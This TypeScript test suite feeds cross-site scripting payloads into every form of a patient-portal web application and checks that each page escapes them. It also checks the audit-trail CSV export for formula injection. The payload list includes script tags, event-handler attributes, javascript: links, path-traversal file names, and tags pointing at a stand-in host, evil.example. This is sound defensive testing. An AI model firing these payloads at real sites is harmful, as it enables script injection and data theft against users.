/**
 * Every text that a form takes, and every page that may show it. The forms are those of the route table, their fields
 * those of the samples and of the forms on the pages: what is added there is tried here.
 */
import { expect } from 'chai'
import { addressOf, type Route } from '../../module/web/routes.js'
import { openPracticeWithEmr } from '../support/emr.js'
import { type TestPractice } from '../support/practice.js'
import type { Page, Visitor } from '../support/visitor.js'
import { pdfOf, type Sent } from '../support/files.js'
import { askAt, nameOf, pathTo, sampleFor, sendAt } from './asking.js'
import { partsOf, type PageForm, type PageParts } from './pageParts.js'
import { letIn } from './portals.js'
import { clearSamples, type Sample } from './samples.js'

/** Begins as a formula would, so that a spreadsheet must not take it for one. `mark`: which field it was typed into. */
const attack = (mark: string) =>
  `=${mark}"><svg onload=alert(1)><script>alert(1)</script></textarea><img src=x onerror=alert(1)>`
/** For fields of a few characters. */
const shortAttack = (mark: string) => `${mark}<b onclick=x>`

/** Before the name of a field that takes files: its text is a file's name. */
const FILE = 'file: '
/** As another system may call a file; what is behind its last slash is all that ours takes for its name. */
const fileAttack = (mark: string) => `../"><svg onload=alert(1)><img src=x onerror=alert(1)>'${mark}.pdf`

/** A PDF under such a name. */
function aFile(field: string, mark: string): Sent {
  return { field, name: fileAttack(mark), bytes: pdfOf(mark) }
}

/** Each would be named where it stands on a page. */
const LET_THROUGH = [
  attack('zq0~'),
  shortAttack('zq0~'),
  '<svg onload=alert(1)>',
  '<svg></svg>',
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x>',
  '<img src=//evil.example/x.png>',
  '<style>*{}</style>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<iframe srcdoc="x"></iframe>',
  '<object data=x></object>',
  '<embed src=x>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" JavaScript:alert(1)">x</a>',
  '<form action="//evil.example"></form>',
  '<form action="https://evil.example/"></form>',
  '<button formaction="data:text/html,x">x</button>',
  '<p hx-on:load="x">x</p>',
  '<p hx-get="/portal?q=<b>">x</p>',
  '<p style="color:red">x</p>',
  '<math></math>',
  '<p a"b=c>x</p>',
  '<details open ontoggle=alert(1)>',
  '<input value="" autofocus onfocus=alert(1)>',
]

describe('Whatever is typed, wherever it is read', function () {
  this.timeout(240_000)
  let practice: TestPractice
  let maria: Visitor
  let admin: Visitor
  let stranger: Visitor
  const faults = new Set<string>()
  /** What each mark was typed into. */
  const typed = new Map<string, string>()
  const seen = new Set<string>()
  const pages = new Set<string>()
  let count = 0
  let asked = 0

  before(async () => {
    practice = await openPracticeWithEmr()
    ;({ maria, admin } = await letIn(practice))
    await practice.setting('registrationsPerAddress', '1000')
    stranger = await practice.visitor()
    await stranger.get('/portal/sign-in')
  })
  after(() => practice.leave())

  it('is text on every page', async () => {
    const fields = new Map<string, Map<string, string>>()
    for (const route of gets()) for (const form of (await readOwn(route)).forms) learn(fields, form)
    let tried = 0
    for (const route of posts()) {
      const known = fields.get(nameOf(route))
      const names = [...(await textsOf(route, known)), ...filesOf(route, known)]
      if (names.length > 0) tried += 1
      await typeAll(route, names)
      // A name that is typed beside it may stand in the place of its own.
      for (const file of filesOf(route, known)) await type(route, new Map([[file, attack]]), { andRead: true })
    }
    for (const route of gets()) if (paramsOf(route).every((name) => name === 'pid')) await readOwn(route)
    await lookIntoTrail()
    const places = new Set(typed.values())
    const readAgain = new Set([...typed].filter(([mark]) => seen.has(mark)).map(([, place]) => place))
    console.log(
      `        ${String(tried)} forms, ${String(places.size)} fields, ${String(readAgain.size)} read again on ${String(pages.size)} pages; ${String(asked)} requests`,
    )
    expect([...faults].slice(0, 20), [...faults].slice(0, 40).join('\n')).to.deep.equal([])
    expect(tried, 'forms').to.be.greaterThan(85)
    expect(places.size, 'fields').to.be.greaterThan(105)
    expect(readAgain.size, 'fields that were read again').to.be.greaterThan(70)
    // What came along with a file, and the file's own name.
    expect([...readAgain]).to.include.members([
      'POST /portal/records/:record/documents/upload note',
      'POST /portal/records/:record/documents/upload/:batch/files/:file/replacement note',
      'POST /staff/portal/patients/:pid/documents name',
      `POST /portal/records/:record/documents/upload ${FILE}file`,
      `POST /portal/records/:record/documents/upload/:batch/files/:file/replacement ${FILE}file`,
      `POST /staff/portal/patients/:pid/documents ${FILE}file`,
      `POST /staff/portal/templates/uploads ${FILE}file`,
    ])
  })

  it('would be seen here if a page let it through', async () => {
    await practice.setting('practiceName', attack('zq0~'))
    const { body } = await admin.get('/staff/portal')
    expect(partsOf(body).strange).to.deep.equal([])
    expect(body).to.include('<main').and.include('<form')
    for (const each of LET_THROUGH) {
      expect(partsOf(body.replace('<main', `${each}<main`)).strange, each).not.to.deep.equal([])
    }
    // The practice's name stands there, escaped: not escaped, it would be an element of the page.
    expect(partsOf(body).said).to.include(attack('zq0~'))
    expect(partsOf(body.replace(/&lt;/g, '<').replace(/&gt;/g, '>')).strange).not.to.deep.equal([])
  })

  const gets = () => practice.routes.filter((route) => route.method === 'get' && !isFile(route))
  /** The EMR's own page of its modules switches the portal off. */
  const posts = () =>
    practice.routes.filter((route) => route.method === 'post' && !addressOf(route).startsWith('/emr/modules'))

  function whoFor({ audience }: Route): Visitor {
    if (audience === 'patientDoor' || audience === 'staffDoor') return stranger
    return audience === 'staff' || audience === 'emr' ? admin : maria
  }

  /** The page of a sample of its own. */
  async function readOwn(route: Route): Promise<PageParts> {
    const sample = await sampleFor(practice, route, practice.patients.maria)
    const parts = await read(route, sample)
    await clearSamples(practice)
    return parts
  }

  async function read(route: Route, sample: Sample): Promise<PageParts> {
    const path = pathTo(route, practice.records.maria, sample)
    return look(nameOf(route), await askAt(practice, whoFor(route), route, { path, sample }))
  }

  /** What stands there that does not belong there, and whose marks can be read. */
  function look(what: string, page: Page): PageParts {
    asked += 1
    if (page.status >= 500) faults.add(`${what}: ${String(page.status)}`)
    if (!page.headers.get('Content-Type')?.startsWith('text/html')) return partsOf('')
    const parts = partsOf(page.body)
    const { strange, said, forms } = parts
    for (const each of strange) faults.add(`${what}: ${each}`)
    for (const [mark] of said.matchAll(/zq\d+~/g)) seen.add(mark)
    pages.add(what)
    return { ...parts, forms: forms.map((form) => ({ ...form, action: form.action || page.path })) }
  }

  /** To which route a form goes, and what can be typed into it. */
  function learn(fields: Map<string, Map<string, string>>, form: PageForm): void {
    const path = form.action.split('?')[0] ?? ''
    const route = posts()
      .filter((each) => patternOf(each).test(path))
      .sort((a, b) => paramsOf(a).length - paramsOf(b).length)[0]
    if (!route) return
    const known = fields.get(nameOf(route)) ?? new Map<string, string>()
    for (const [name, kind] of form.fields) known.set(name, kind)
    fields.set(nameOf(route), known)
  }

  /** Of the sample's fields and the form's those that may be texts: whether they are, the answer tells. */
  async function textsOf(route: Route, known = new Map<string, string>()): Promise<string[]> {
    const { body = {} } = await sampleFor(practice, route, practice.patients.maria)
    await clearSamples(practice)
    const ofForm = [...known].filter(([, kind]) => /^(text|textarea|search|tel)$/.test(kind)).map(([name]) => name)
    const ofSample = Object.keys(body).filter((name) => !known.has(name) && !isNoText(body[name] ?? ''))
    return [...new Set([...ofForm, ...ofSample])]
  }

  /** A file's name is typed, too: by whoever named it. */
  function filesOf(route: Route, known = new Map<string, string>()): string[] {
    if (route.takes !== 'files') return []
    return [...known].filter(([, kind]) => kind === 'file').map(([name]) => `${FILE}${name}`)
  }

  /** All at once, or each alone where one of them is refused, and then together what is none the less taken. */
  async function typeAll(route: Route, names: readonly string[]): Promise<void> {
    const all = new Map(names.map((name) => [name, attack]))
    if (names.length === 0 || (await type(route, all, { andRead: true }))) return
    const taken: typeof all = new Map()
    for (const name of names) {
      for (const written of [attack, shortAttack]) {
        if (taken.has(name) || !(await type(route, new Map([[name, written]])))) continue
        taken.set(name, written)
      }
    }
    if (taken.size === 0 || (await type(route, taken, { andRead: true }))) return
    for (const [name, written] of taken) await type(route, new Map([[name, written]]), { andRead: true })
  }

  /** Whether the form took it. Whatever it answered is looked at; `andRead`: and all that may show what it took. */
  async function type(
    route: Route,
    texts: ReadonlyMap<string, typeof attack>,
    { andRead = false } = {},
  ): Promise<boolean> {
    const sample = await sampleFor(practice, route, practice.patients.maria)
    const marks = [...texts].map(([name, written]) => ({ name, mark: `zq${String((count += 1))}~`, written }))
    const isFile = ({ name }: { name: string }) => name.startsWith(FILE)
    const typedNow = Object.fromEntries(
      marks.filter((each) => !isFile(each)).map(({ name, mark, written }) => [name, written(mark)]),
    )
    const path = pathTo(route, practice.records.maria, sample)
    const files = marks.filter(isFile).map(({ name, mark }) => aFile(name.slice(FILE.length), mark))
    const asked = { path, sample: { ...sample, body: { ...sample.body, ...typedNow } }, files }
    const page = await (route.takes === 'files' ? sendAt : askAt)(practice, whoFor(route), route, asked)
    look(nameOf(route), page)
    const isTaken = page.status === 303 || page.status === 200
    if (isTaken) {
      for (const { name, mark } of marks) typed.set(mark, `${nameOf(route)} ${name}`)
      if (page.location?.startsWith('/')) look(`after ${nameOf(route)}`, await whoFor(route).follow(page))
    }
    if (isTaken && andRead) await readAround(route, sample)
    await clearSamples(practice)
    return isTaken
  }

  /** The pages of its wing: those of what it was typed about, the lists, and of each thing they lead to one. */
  async function readAround(form: Route, { params = {} }: Sample): Promise<void> {
    const wing = gets().filter((each) => isOfWing(each, form))
    const known = wing.filter((each) => paramsOf(each).every((name) => name in params))
    const links: string[] = []
    for (const each of known) links.push(...(await read(each, { params })).links)
    for (const each of wing.filter((each) => !known.includes(each))) {
      const link = links.findLast((path) => patternOf(each).test(path.split('?')[0] ?? ''))
      if (link) look(nameOf(each), await whoFor(each).get(link))
    }
  }

  /** To a spreadsheet nothing of it is a formula. */
  async function lookIntoTrail(): Promise<void> {
    const { body } = await admin.get('/staff/portal/audit-trail/export')
    const cells = [...body.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell = '']) => cell)
    expect(cells.filter((cell) => cell.includes('svg onload')).length, 'texts in the trail').to.be.greaterThan(10)
    expect(cells.filter((cell) => /^\s*[=+\-@]/.test(cell))).to.deep.equal([])
  }
})

function isOfWing(page: Route, form: Route): boolean {
  const words = wordsOf(form)
  return wordsOf(page).some((word) => words.includes(word))
}

function wordsOf(route: Route): string[] {
  const all = addressOf(route).split('/')
  return all.filter((word) => word !== '' && !/^(:.*|portal|staff|records|patients|new)$/.test(word))
}

function paramsOf(route: Route): string[] {
  return [...addressOf(route).matchAll(/:(\w+)/g)].map(([, name = '']) => name).filter((name) => name !== 'record')
}

function patternOf(route: Route): RegExp {
  return new RegExp(`^${addressOf(route).replace(/:\w+/g, '[^/]+')}$`)
}

function isFile(route: Route): boolean {
  return /(\.\w+|\/file|\/files\/:file|\/picture|\/pdf|\/export|\/pages\/:page)$/.test(addressOf(route))
}

/** A number, a day, a time, an e-mail address, an id. */
function isNoText(value: string): boolean {
  return /^(\d[\d:./-]*|\S+@\S+|[\w-]{20,}(\.[\w-]+)*)$/.test(value)
}
